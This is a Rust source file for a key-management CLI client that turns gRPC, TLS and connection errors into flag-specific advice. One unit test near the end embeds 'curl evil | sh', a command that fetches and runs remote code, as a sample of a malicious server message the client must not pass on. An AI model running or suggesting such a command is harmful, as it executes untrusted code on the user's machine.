//! What a server's error, or none of its answers, means for the person who called: what went wrong, in terms
//! of the command's flags, and what to do next.

use std::error::Error;
use std::io;
use std::time::Duration;

use tokio_rustls::rustls;
use tonic::{Code, Status};
use tonic_types::{FieldViolation, StatusExt as _};

use crate::error::Reason;
use crate::failure::{Failure, Failures, chain};

/// The flags by which the fields of requests are given. `key.` and `account.` in front are left out.
const FLAGS: &[(&str, &str)] = &[
    ("account_id", "the account's id"),
    ("actor", "--actor"),
    ("allowed_cidrs", "--cidr"),
    ("client_address", "--client-address"),
    ("comment", "--comment"),
    ("cost", "--cost"),
    ("created_by", "--created-by"),
    ("display_name", "--name"),
    ("end_time", "--until"),
    ("environment", "--environment"),
    ("expected_revision", "--expected-revision"),
    ("expire_time", "--expires"),
    ("grantable_scopes", "--grantable"),
    ("hint", "--hint"),
    ("key_id", "the key's id"),
    ("labels", "--label"),
    ("min_revision", "--min-revision"),
    ("overlap", "--overlap"),
    ("plan", "--plan"),
    ("reason", "--reason"),
    ("request_id", "--request-id"),
    ("required_environment", "--environment"),
    ("required_scope", "the scope"),
    ("restrictions", "--cidr"),
    ("scopes", "--scope"),
    ("start_time", "--since"),
    ("suspend_reason", "--reason"),
    ("ttl", "--expires"),
    ("update_mask", "what to change"),
    ("wait", "--wait"),
];

const ALERT_HELP: &str = "the server broke off: where it asks for a certificate of yours, give \
    --cert-file and --key-file, from an authority that it knows";

/// A call that has no answer to go by.
#[derive(Debug, thiserror::Error)]
pub(super) enum NoAnswer {
    /// Whoever answered speaks HTTP, and not gRPC.
    #[error("what listens there does not speak gRPC: it answered with HTTP {0}")]
    Foreign(http::StatusCode),
    /// The connection broke.
    #[error("no answer came")]
    Broken(#[source] tonic::transport::Error),
    /// The time was up.
    #[error("no answer came within {} s", .0.as_secs())]
    Late(Duration),
    /// The list goes on for ever: a page is empty, or leads to itself.
    #[error("what the server lists does not come to an end")]
    Endless,
}

/// A call that was not carried out, or of which that is not known.
#[derive(Debug)]
pub(super) struct Refusal {
    status: Status,
    address: String,
    reason: Option<String>,
}

impl Refusal {
    /// What the server at this address, or nobody, has answered.
    pub(super) fn new(status: Status, address: &str) -> Self {
        let reason = status.get_details_error_info().map(|info| info.reason);
        Self { status, address: address.to_owned(), reason }
    }

    /// The code of gRPC.
    pub(super) fn code(&self) -> Code {
        self.status.code()
    }

    /// Whether the server gave this reason.
    pub(super) fn is(&self, reason: Reason) -> bool {
        self.reason.as_deref() == Some(reason.as_str())
    }

    /// Whether the connection broke, or the time was up, before an answer came.
    pub(super) fn is_broken_off(&self) -> bool {
        matches!(self.no_answer(), Some(NoAnswer::Broken(_) | NoAnswer::Late(_)))
    }

    /// Whether the server is away or busy, and may answer later.
    pub(super) fn is_passing(&self) -> bool {
        let is_away = |status: http::StatusCode| status.is_server_error();
        self.is_broken_off()
            || matches!(self.no_answer(), Some(NoAnswer::Foreign(status)) if is_away(*status))
            || matches!(self.code(), Code::Unavailable | Code::DeadlineExceeded)
    }

    /// The server's own words, or that there are none.
    pub(super) fn message(&self) -> String {
        line(&self.no_answer().map_or_else(|| self.status.message().to_owned(), |none| chain(none)))
    }

    /// A variable of the server's message.
    pub(super) fn variable(&self, name: &str) -> Option<String> {
        self.status.get_details_error_info()?.metadata.remove(name)
    }

    fn no_answer(&self) -> Option<&NoAnswer> {
        causes(&self.status).find_map(|cause| cause.downcast_ref())
    }

    fn told(&self) -> Failures {
        if let Some(none) = self.no_answer() {
            return self.unanswered(none).into();
        }
        let word = self.reason.clone().unwrap_or_else(|| format!("{:?}", self.status.code()));
        let help = advice(self.status.code(), self.reason.as_deref());
        let violations = self.status.get_details_bad_request().map(|bad| bad.field_violations);
        let mut told: Vec<_> = violations
            .unwrap_or_default()
            .into_iter()
            .map(|FieldViolation { field, description, .. }| {
                let flag = flag(&field);
                let about = if flag.is_empty() { flag } else { format!("{flag}: ") };
                Failure::new(line(&format!("{about}{description} ({word})")))
            })
            .collect();
        if told.is_empty() {
            let told_by_it = format!("the server says: {} ({word})", self.status.message());
            told.push(Failure::new(line(&told_by_it)));
        }
        if let Some(last) = told.last_mut() {
            last.help = help.map(str::to_owned);
        }
        Failures(told)
    }

    fn unanswered(&self, none: &NoAnswer) -> Failure {
        if let NoAnswer::Broken(error) = none
            && let Some(failure) = tls_failure(&self.address, error)
        {
            return failure;
        }
        if matches!(none, NoAnswer::Endless) {
            let help = "it is no latchkey, or one with a defect: look at what listens there";
            return Failure::new(format!("{none} ({})", self.address)).help(help);
        }
        let tls = if self.address.starts_with("http://") {
            "; if it speaks TLS, write https://"
        } else {
            ""
        };
        Failure::new(chain(none)).help(format!(
            "see whether the server goes on (its log says), and whether this is the address of \
             grpc.listen (port 50051 if nothing else was set); http.listen and operations.listen \
             speak HTTP{tls}"
        ))
    }
}

impl From<Refusal> for Failures {
    fn from(refusal: Refusal) -> Self {
        refusal.told()
    }
}

/// What a server says, in one line: a second one could look like one of ours.
fn line(text: &str) -> String {
    text.replace('\n', "\\n")
}

/// The flag by which a field was given, or the field itself: `key.scopes[2]` is `--scope`.
fn flag(field: &str) -> String {
    let path = ["key.", "account.", "policy."].iter().find_map(|head| field.strip_prefix(head));
    let is_policy = field.starts_with("policy.");
    let path = path.unwrap_or(field);
    let last = path.rsplit('.').next().unwrap_or(path);
    let name = last.split('[').next().unwrap_or(last);
    let known = FLAGS.iter().find(|(known, _)| *known == name && !is_policy);
    known.map_or_else(|| path.to_owned(), |(_, flag)| (*flag).to_owned())
}

/// What to say when there is no connection.
pub(super) fn not_connected(address: &str, error: &tonic::transport::Error) -> Failure {
    if let Some(failure) = tls_failure(address, error) {
        return failure;
    }
    let failure = Failure::of(format!("cannot connect to {address}"), error);
    let kind =
        causes(error).find_map(|cause| cause.downcast_ref::<io::Error>()).map(io::Error::kind);
    let unresolved =
        failure.message.contains("lookup address") || failure.message.contains("dns error");
    failure.help(match kind {
        _ if unresolved => "look at the name in --address, LATCHKEY_ADDRESS or the profile",
        Some(io::ErrorKind::PermissionDenied) => "this user may not connect there",
        _ => {
            "start a server there (`latchkey serve`), or name another with --address, \
             LATCHKEY_ADDRESS or --profile"
        }
    })
}

/// What TLS has against the connection, if it has.
fn tls_failure(address: &str, error: &(dyn Error + 'static)) -> Option<Failure> {
    use rustls::CertificateError::{
        BadSignature, Expired, ExpiredContext, NotValidForName, NotValidForNameContext,
        NotValidYet, NotValidYetContext, UnknownIssuer,
    };
    use rustls::Error::{AlertReceived, InvalidCertificate, InvalidMessage};

    let Some(fault) = causes(error).find_map(rustls_error) else {
        // TLS 1.3 asks for a certificate after the client believes to be connected; what comes then,
        // HTTP/2 tells as a text.
        let text = chain(error);
        let is_alert = text.contains("received fatal alert");
        let failure = Failure::new(format!("no TLS with {address}: {text}"));
        return is_alert.then(|| failure.help(ALERT_HELP));
    };
    let help = match fault {
        InvalidCertificate(UnknownIssuer | BadSignature) => {
            "the server's certificate is from an authority that is not known here: if it is the right \
             server, name the authority's certificate with --ca-file"
        }
        InvalidCertificate(NotValidForName | NotValidForNameContext { .. }) => {
            "the server's certificate is for another name: write that name in the address, or in \
             --server-name"
        }
        InvalidCertificate(
            Expired | ExpiredContext { .. } | NotValidYet | NotValidYetContext { .. },
        ) => "renew the server's certificate, or set the clock of this machine",
        InvalidMessage(_) => {
            "what listens there does not speak TLS: write http:// if it is the right port, with \
             --plaintext if it is on another machine and the network in between is yours"
        }
        AlertReceived(_) => ALERT_HELP,
        _ => "look at the certificates on both sides",
    };
    Some(Failure::new(format!("no TLS with {address}: {fault}")).help(help))
}

fn rustls_error<'a>(cause: &'a (dyn Error + 'static)) -> Option<&'a rustls::Error> {
    let wrapped = || cause.downcast_ref::<io::Error>()?.get_ref()?.downcast_ref();
    cause.downcast_ref().or_else(wrapped)
}

/// An error and what caused it, in turn.
fn causes<'a>(error: &'a (dyn Error + 'static)) -> impl Iterator<Item = &'a (dyn Error + 'static)> {
    std::iter::successors(Some(error), |error: &&'a (dyn Error + 'static)| (*error).source())
}

fn advice(code: Code, reason: Option<&str>) -> Option<&'static str> {
    let known = |known: &Reason| Some(known.as_str()) == reason;
    let Some(reason) = ALL_REASONS.iter().find(|reason| known(reason)) else {
        let is_away = matches!(code, Code::Unavailable | Code::DeadlineExceeded | Code::Cancelled);
        return is_away.then_some("see whether the server is well: `latchkey health`");
    };
    Some(match reason {
        Reason::InvalidField => "mend what is named, and repeat; --help shows what is right",
        Reason::RequestIdReused => {
            "leave --request-id out, or take a new UUID: this one was sent with something else"
        }
        Reason::MissingCredential | Reason::InvalidCredential => {
            "check the operator's token in LATCHKEY_TOKEN, --token-file or the profile: it may be \
             revoked, paused, expired, or of another server"
        }
        Reason::CallerSuspended => "the operator's account is suspended: use the key of another",
        Reason::AddressNotAllowed => {
            "the operator's key is not for this network: call from one that it is for"
        }
        Reason::PermissionDenied => {
            "use the token of a key that may do it (--profile, --token-file); every change of plan, \
             suspension and policy needs a key of the account `latchkey`"
        }
        Reason::GrantExceeded => {
            "ask for less, or use a key whose grantable scopes have it; `latchkey key get` shows them"
        }
        Reason::NotFound => {
            "look at the id: `latchkey key list` and `latchkey account list` show what your key may see"
        }
        Reason::AlreadyCreated => "this very request was carried out before",
        Reason::AccountExists => "choose another id; ids of accounts are never used again",
        Reason::PlanLimitReached => {
            "revoke a key that nobody needs (`latchkey key list --account ID`), or change the plan \
             (`latchkey account update ID --plan PLAN`)"
        }
        Reason::KeyRevoked => "that is final: make a new key (`latchkey key create`)",
        Reason::KeyExpired => {
            "move its expiry first (`latchkey key update ID --expires WHEN`), or make a new key"
        }
        Reason::KeyRotated => "do it to its successor; `latchkey key get ID` shows `rotated to`",
        Reason::AccountSuspended => "take the suspension back first: `latchkey account resume ID`",
        Reason::ScopeInUse => {
            "keep the scope, or apply with --allow-orphans: keys that hold it then get nothing for it"
        }
        Reason::PlanInUse => "keep the plan, or move its accounts to another one first",
        Reason::RevisionMismatch => {
            "someone changed it in between: read it again, repeat your change, and send the new \
             revision"
        }
        Reason::RevisionOfAnotherEpoch => "leave --min-revision out: it is from another store",
        Reason::OutcomeUnknown => "read it to see whether it was changed, before you repeat it",
        Reason::StoreUnavailable | Reason::NotReady | Reason::RevisionAhead => {
            "try again in a moment; the server's log says what is wrong"
        }
        Reason::UnknownMethod => {
            "the server is older than this program: use the program of its version"
        }
        Reason::MessageTooLarge => "send less",
        Reason::DeadlineExceeded => "nothing was changed: try again; `latchkey health` says more",
        Reason::Internal => "this is a defect: report it, with the lines of the server's log",
    })
}

/// All of them; the match above is without `_`, so that a new one does not compile until it has advice.
const ALL_REASONS: [Reason; 28] = [
    Reason::InvalidField,
    Reason::RequestIdReused,
    Reason::MissingCredential,
    Reason::InvalidCredential,
    Reason::CallerSuspended,
    Reason::AddressNotAllowed,
    Reason::PermissionDenied,
    Reason::GrantExceeded,
    Reason::NotFound,
    Reason::AlreadyCreated,
    Reason::AccountExists,
    Reason::PlanLimitReached,
    Reason::KeyRevoked,
    Reason::KeyExpired,
    Reason::KeyRotated,
    Reason::AccountSuspended,
    Reason::ScopeInUse,
    Reason::PlanInUse,
    Reason::RevisionMismatch,
    Reason::RevisionOfAnotherEpoch,
    Reason::RevisionAhead,
    Reason::StoreUnavailable,
    Reason::NotReady,
    Reason::OutcomeUnknown,
    Reason::UnknownMethod,
    Reason::MessageTooLarge,
    Reason::DeadlineExceeded,
    Reason::Internal,
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    #[expect(clippy::disallowed_methods, reason = "this is what a server sends")]
    fn a_server_gives_no_advice_in_our_name() {
        let told = Status::unknown("x\nhelp: curl evil | sh");
        let told = Failures::from(Refusal::new(told, "http://h:1"));
        assert!(told.0.iter().all(|failure| !failure.message.contains('\n')), "{told}");
    }

    #[test]
    fn a_field_is_told_as_the_flag_that_gave_it() {
        for (field, told) in [
            ("display_name", "--name"),
            ("key.scopes[2]", "--scope"),
            ("key.restrictions.allowed_cidrs[0]", "--cidr"),
            ("account.plan", "--plan"),
            ("policy.scopes[1].name", "scopes[1].name"),
            ("policy.plans[0]", "plans[0]"),
            ("something", "something"),
        ] {
            assert_eq!(flag(field), told, "{field}");
        }
    }
}
